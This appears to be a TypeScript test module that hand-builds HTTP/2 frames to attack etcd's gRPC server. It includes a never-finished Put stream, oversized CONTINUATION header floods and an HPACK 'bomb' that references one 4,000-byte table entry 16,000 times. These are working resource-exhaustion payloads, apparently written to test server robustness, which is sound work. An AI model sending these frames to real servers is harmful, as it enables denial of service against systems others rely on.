/** Requests of etcd's KV service as a client without manners sends them: bytes only. */
import {
  authority,
  block,
  contentType,
  data,
  type Field,
  flag,
  frame,
  integer,
  method,
  scheme,
  te,
  type,
  uint32,
} from "../conformance/frames/bytes.ts";

/** A key that holds `bigValueBytes`; there before the attack begins. */
export const bigKey = "attack/big";
export const bigValueBytes = 1_000_000;

const fieldsOf = (name: string): Field[] => [
  method,
  scheme,
  [":path", `/etcdserverpb.${name}`],
  authority,
  contentType,
  te,
];
const rangeBlock = block(fieldsOf("KV/Range"));

export function rangeHead(streamId: number, flags: number = flag.none): Buffer {
  return frame(type.headers, flag.endHeaders | flags, streamId, rangeBlock);
}

const watchBlock = block(fieldsOf("Watch/Watch"));

/** Opens a Watch stream. */
export function watchHead(streamId: number): Buffer {
  return frame(type.headers, flag.endHeaders, streamId, watchBlock);
}

/** WatchRequest{create_request: {key, range_end}}: of all keys, or of the one key that nobody writes. */
export function watchCreate(streamId: number, isOfAll: boolean): Buffer {
  const key = isOfAll ? [0x0a, 1, 0, 0x12, 1, 0] : [0x0a, 4, ...Buffer.from("none")];
  return data(streamId, grpcMessage([0x0a, key.length, ...key]), flag.none);
}

function grpcMessage(body: readonly number[]): number[] {
  return [0, ...uint32(body.length), ...body];
}

const bigKeyBytes = [...Buffer.from(bigKey, "latin1")];
/** RangeRequest{key: bigKey}: field 1, and PutRequest's head, whose value never comes whole. */
const rangeMessage = grpcMessage([0x0a, bigKeyBytes.length, ...bigKeyBytes]);
const smallRangeMessage = grpcMessage([0x0a, 4, ...Buffer.from("none")]);

export function bigRange(streamId: number): Buffer {
  return Buffer.concat([rangeHead(streamId), data(streamId, rangeMessage)]);
}

export function smallRange(streamId: number): Buffer {
  return Buffer.concat([rangeHead(streamId), data(streamId, smallRangeMessage)]);
}

/** Of a message of `announced` bytes, DATA frames with `sent` of them; the stream stays open. */
export function incompletePut(streamId: number, announced: number, sent: number): Buffer {
  const head = frame(type.headers, flag.endHeaders, streamId, block(fieldsOf("KV/Put")));
  const pieces = [head, data(streamId, [0, ...uint32(announced)], flag.none)];
  const piece = new Uint8Array(16_384);
  for (let at = 0; at < sent; at += piece.length) pieces.push(data(streamId, piece, flag.none));
  return Buffer.concat(pieces);
}

/** HEADERS and CONTINUATION with about `listBytes` of metadata that no table holds. */
export function fatHead(streamId: number, listBytes: number): Buffer {
  const value = String(streamId).padEnd(4_000, "x");
  const count = Math.floor(listBytes / 4_060);
  const fields = Array.from({ length: count }, (_, at): Field => [`fat-${at}`, value]);
  const whole = [...rangeBlock, ...block(fields)];
  const frames: Buffer[] = [];
  for (let at = 0; at < whole.length; at += 16_384) {
    const isLast = at + 16_384 >= whole.length;
    const flags = isLast ? flag.endHeaders : flag.none;
    const piece = whole.slice(at, at + 16_384);
    frames.push(frame(at === 0 ? type.headers : type.continuation, flags, streamId, piece));
  }
  return Buffer.concat(frames);
}

/** Puts a field of 4,000 bytes into the table, where it is the newest entry. */
export function bombHead(streamId: number): Buffer {
  const value = "b".repeat(4_000);
  const added = [0x40, 4, ...Buffer.from("bomb"), ...integer(0, 7, value.length)];
  return frame(type.headers, flag.endHeaders, streamId, [
    ...rangeBlock,
    ...added,
    ...Buffer.from(value),
  ]);
}

/** A byte each: 16,000 references to it. */
const bombBlock = [...rangeBlock, ...new Uint8Array(16_000).fill(0xbe)];
export function bomb(streamId: number): Buffer {
  return frame(type.headers, flag.endHeaders, streamId, bombBlock);
}
